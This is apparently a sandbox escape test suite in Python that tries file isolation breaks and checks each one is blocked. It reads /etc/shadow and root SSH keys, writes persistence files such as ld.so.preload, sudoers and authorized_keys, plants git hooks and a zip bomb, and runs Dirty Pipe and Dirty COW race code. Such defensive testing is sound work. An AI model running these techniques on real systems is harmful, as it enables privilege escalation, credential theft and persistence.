"""Files of the host, of other runs and of the sandbox itself."""

import ctypes
import fcntl
import mmap
import os
import stat
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

from doors import BAIT, call, closed, never, program, read, system, write


@program
def read_files_of_the_host() -> None:
    for path in (BAIT["secret"], "/etc/shadow", "/root/.ssh/id_rsa", f"{BAIT['home']}/.bash_history"):
        closed(f"read {path}", read(path))


@program
def read_another_run() -> None:
    for path in BAIT["other_run"]:
        closed(f"read {path}", read(path))
        closed(f"list {path}", lambda path=path: os.listdir(Path(path).parent))


@program
def read_through_proc() -> None:
    for way in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../..", "/proc/thread-self/root/../.."):
        closed(f"read the secret by {way}", read(way + BAIT["secret"]))


@program
def climb_out() -> None:
    os.chdir("/")
    for _ in range(40):
        os.chdir("..")
    closed("climb by ..", read(BAIT["secret"].lstrip("/")))
    link = Path("/work/climb")
    link.symlink_to(BAIT["secret"])
    closed("climb by a link", read(str(link)))


@program
def use_leftover_descriptors() -> None:
    """Reach the host's root through a descriptor that a runtime has leaked."""
    for name in os.listdir("/proc/self/fd"):
        for way in (f"/proc/self/fd/{name}/..", f"/proc/self/fd/{name}/../../../../.."):
            closed(f"read the secret by descriptor {name}", read(way + BAIT["secret"]))


@program
def open_by_handle() -> None:
    """Open files by their inode, as programs escaped from early containers."""

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_char * 8)]

    root = os.open("/work", os.O_RDONLY)
    for inode in (2, 128, 256):
        handle = Handle(8, 1, inode.to_bytes(8, "little"))
        closed(f"open inode {inode}", lambda handle=handle: call("open_by_handle_at", root, ctypes.byref(handle), 0))


@program
def write_files_of_the_host() -> None:
    for path in (BAIT["secret"], BAIT["other_run"][0], "/etc/passwd", "/etc/cron.d/x", "/usr/bin/x", "/boot/x", "/x"):
        closed(f"write {path}", write(path))


@program
def write_what_the_sandbox_is_made_of() -> None:
    for path in (
        "/hydra/hydra_inside/plugin.py",
        "/hydra/hydra_inside/new.py",
        "/tree/new",
        "/tree/doors.py",
        "/env/bin/python3",
        "/env/new",
        "/inputs/bait.json",
        "/inputs/new",
    ):
        closed(f"write {path}", write(path))


@program
def replace_the_record() -> None:
    """Replace the record of the tests, to which a program may only add."""
    closed("remove", lambda: os.unlink("/results"))
    closed("rename", lambda: os.rename("/results", "/work/results"))
    closed("put a link in its place", lambda: os.symlink("/etc/passwd", "/results"))
    closed("hard link", lambda: os.link("/results", "/work/record"))


@program
def overwrite_the_runtime() -> None:
    """Overwrite the program that started this container."""
    for path in ("/proc/1/exe", "/proc/self/exe"):
        closed(f"write {path}", lambda path=path: os.open(path, os.O_WRONLY))
    closed("write the interpreter", lambda: os.open(os.path.realpath("/proc/self/exe"), os.O_WRONLY))


@program
def open_devices() -> None:
    for name in ("vda", "sda", "nvme0n1", "mem", "kmem", "port", "kmsg", "fuse", "loop-control", "net/tun", "kvm"):
        closed(f"open /dev/{name}", lambda name=name: os.open(f"/dev/{name}", os.O_RDWR))


@program
def make_devices() -> None:
    for kind, number in ((stat.S_IFBLK, os.makedev(254, 0)), (stat.S_IFBLK, os.makedev(8, 0)), (stat.S_IFCHR, 0x101)):
        closed("make a device", lambda kind=kind, number=number: os.mknod("/work/device", kind | 0o666, number))


@program
def make_files_of_root() -> None:
    Path("/work/mine").write_text("")
    closed("give a file to root", lambda: os.chown("/work/mine", 0, 0))
    closed("set a capability", lambda: os.setxattr("/work/mine", "security.capability", bytes(20)))
    closed("set a trusted attribute", lambda: os.setxattr("/work/mine", "trusted.overlay.opaque", b"y"))


@program
def follow_links_of_the_snapshot() -> None:
    """Follow links to the host's files: they lead nowhere, or to the sandbox's own."""
    Path("/work/out").symlink_to(BAIT["secret"])
    closed("read", read("/work/out"))
    closed("write", write("/work/out"))
    Path("/work/loop").symlink_to("loop")
    closed("follow a loop", read("/work/loop"))


@program
def unpack_a_zip_bomb() -> None:
    """Unpack three files of 50 MB from some KB."""
    with zipfile.ZipFile("/work/bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(3):
            with bomb.open(f"{number}.bin", "w") as member:
                for _ in range(50):
                    member.write(bytes(1 << 20))
    with zipfile.ZipFile("/work/bomb.zip") as bomb:
        closed("unpack", lambda: bomb.extractall("/work/unpacked"))


@program
def hooks_of_git() -> None:
    """Leave a hook and a file system monitor that git on the host would run."""
    hooks = Path("/work/.git/hooks")
    hooks.mkdir(parents=True, exist_ok=True)
    for name in ("post-checkout", "pre-commit", "post-index-change", "fsmonitor-watchman"):
        (hooks / name).write_text(f"#!/bin/sh\necho of the sandbox > {BAIT['secret']}\n")
        (hooks / name).chmod(0o755)
    (hooks.parent / "config").write_text(f"[core]\n\tfsmonitor = {hooks}/fsmonitor-watchman\n")
    never("the hooks are in the snapshot", os.path.exists("/tree/.git"))


@program
def mount_api() -> None:
    """Mount without mount(2)."""
    closed("fsopen", lambda: system(430, ctypes.c_char_p(b"tmpfs"), 0))
    closed("open_tree", lambda: system(428, -100, ctypes.c_char_p(b"/"), 1))
    closed("mount_setattr", lambda: system(442, -100, ctypes.c_char_p(b"/"), 0, None, 0))
    for name, number in {"move_mount": 429, "fsconfig": 431, "fsmount": 432, "fspick": 433}.items():
        closed(name, lambda number=number: system(number, -100, ctypes.c_char_p(b"/"), 0, 0, 0))


@program
def link_files_of_the_host() -> None:
    """Make a second name for a file that lies on another mount."""
    for path in ("/etc/passwd", "/tree/doors.py", "/inputs/bait.json", "/results"):
        closed(f"link {path}", lambda path=path: os.link(path, "/work/second"))
    with open("/etc/passwd") as file:
        source = f"/proc/self/fd/{file.fileno()}".encode()
        closed("link a descriptor", lambda: call("linkat", -100, source, -100, b"/work/third", 0x400))


@program
def rename_mounts() -> None:
    """Move what is mounted, or put something else in its place."""
    os.makedirs("/work/other", exist_ok=True)
    for path in ("/tree", "/work", "/inputs", "/results", "/proc", "/dev"):
        closed(f"rename {path}", lambda path=path: os.rename(path, "/moved"))
        # RENAME_EXCHANGE.
        closed(f"exchange {path}", lambda path=path: call("renameat2", -100, path.encode(), -100, b"/work/other", 2))
        closed(f"remove {path}", lambda path=path: os.rmdir(path))


# What may only be read: a test has the first two, a setup none but the last.
_READ_ONLY = [path for path in ("/inputs/bait.json", "/tree/doors.py", "/etc/passwd") if os.path.exists(path)]


@program
def write_through_a_mapping() -> None:
    for path in (*_READ_ONLY, sys.executable):
        closed(f"map {path}", lambda path=path: os.open(path, os.O_RDWR))
        with open(path, "rb") as file:
            descriptor = file.fileno()
            closed(f"map {path} shared", lambda fd=descriptor: mmap.mmap(fd, 1, mmap.MAP_SHARED, mmap.PROT_WRITE))


def _rewrite(path: str, race: Callable[[int], None]) -> None:
    """Report an escape when a race changes the file, which is open to read only."""
    before = Path(path).read_bytes()
    descriptor = os.open(path, os.O_RDONLY)
    try:
        race(descriptor)
    except OSError as error:
        print(f"held: the race over {path} ({error.strerror})", flush=True)
    os.close(descriptor)
    never(f"{path} is changed", Path(path).read_bytes() != before)


@program
def dirty_pipe() -> None:
    """Write into a page of a file that lies in a pipe (CVE-2022-0847)."""

    def race(descriptor: int) -> None:
        outgoing, incoming = os.pipe()
        size = fcntl.fcntl(incoming, 1032)
        for _ in range(size // 4096):
            os.write(incoming, bytes(4096))
        for _ in range(size // 4096):
            os.read(outgoing, 4096)
        os.splice(descriptor, incoming, 1, offset_src=0)
        os.write(incoming, b"of the sandbox")

    for path in _READ_ONLY:
        _rewrite(path, race)


@program
def dirty_copy() -> None:
    """Write into a private copy while the kernel drops it (CVE-2016-5195)."""

    def race(descriptor: int) -> None:
        pages = mmap.mmap(descriptor, 1, mmap.MAP_PRIVATE, mmap.PROT_READ)
        deadline = time.monotonic() + 0.3

        def drop() -> None:
            while time.monotonic() < deadline:
                pages.madvise(mmap.MADV_DONTNEED)

        dropping = threading.Thread(target=drop)
        dropping.start()
        maps = Path("/proc/self/maps").read_text().splitlines()
        address = int(next(line for line in maps if path in line).split("-")[0], 16)
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            while time.monotonic() < deadline:
                memory.seek(address)
                memory.write(b"x")
        dropping.join()

    for path in _READ_ONLY:
        _rewrite(path, race)


@program
def reserve_the_disk() -> None:
    """Take the host's disk without writing: by holes, and by reserving blocks."""
    for folder in ("/work", "/tmp", "/dev/shm"):
        Path(folder, "large").write_bytes(b"")
        with open(f"{folder}/large", "r+b") as file:
            fd = file.fileno()
            closed(f"a hole in {folder}", lambda fd=fd: os.ftruncate(fd, 1 << 50))
            closed(f"blocks of {folder}", lambda fd=fd: os.posix_fallocate(fd, 0, 1 << 42))


@program
def attributes_of_files() -> None:
    """Leave files that the host cannot remove, and widen what is mounted."""
    Path("/work/mine").write_bytes(b"")
    with open("/work/mine") as file:
        flags = ctypes.create_string_buffer((0x10).to_bytes(8, "little"))
        closed("make a file immutable", lambda: call("ioctl", file.fileno(), ctypes.c_ulong(0x40086602), flags))
    for path in ("/inputs/bait.json", "/etc/passwd"):
        closed(f"attribute of {path}", lambda path=path: os.setxattr(path, "user.x", b"x"))
        closed(f"list of {path}", lambda path=path: os.setxattr(path, "system.posix_acl_access", bytes(28)))
        closed(f"mode of {path}", lambda path=path: os.chmod(path, 0o777))
        closed(f"times of {path}", lambda path=path: os.utime(path, (0, 0)))


@program
def watch_files_of_the_host() -> None:
    closed("fanotify", lambda: call("fanotify_init", 0, 0))
    closed("watch the secret", lambda: call("inotify_add_watch", call("inotify_init"), BAIT["secret"].encode(), 1))
    closed("quotas", lambda: call("quotactl", 0x80000700, b"/dev/vda", 0, ctypes.create_string_buffer(100)))


@program
def settle_in_configuration() -> None:
    """Write what later programs of the host read when they start."""
    home = BAIT["home"]
    for path in ("/etc/ld.so.preload", "/etc/profile.d/x.sh", "/etc/gitconfig", "/etc/sudoers.d/x", "/etc/pip.conf"):
        closed(f"write {path}", write(path))
    for name in (".bashrc", ".gitconfig", ".ssh/authorized_keys", ".config/pip/pip.conf", ".docker/config.json"):
        closed(f"write {name}", lambda name=name: os.open(f"{home}/{name}", os.O_WRONLY))


@program
def devices_that_lead_out() -> None:
    names = ("userfaultfd", "vhost-vsock", "vhost-net", "vsock", "dri/card0", "dri/renderD128", "nvidia0", "nvidiactl")
    names += ("mapper/control", "btrfs-control", "autofs", "uinput", "ppp", "cpu/0/msr", "hpet", "rtc0", "watchdog")
    for name in names:
        closed(f"open /dev/{name}", lambda name=name: os.open(f"/dev/{name}", os.O_RDWR))
    for number in range(8):
        closed(f"terminal {number}", lambda number=number: os.open(f"/dev/pts/{number}", os.O_RDWR | os.O_NOCTTY))
        closed(f"console {number}", lambda number=number: os.open(f"/dev/tty{number}", os.O_RDWR | os.O_NOCTTY))
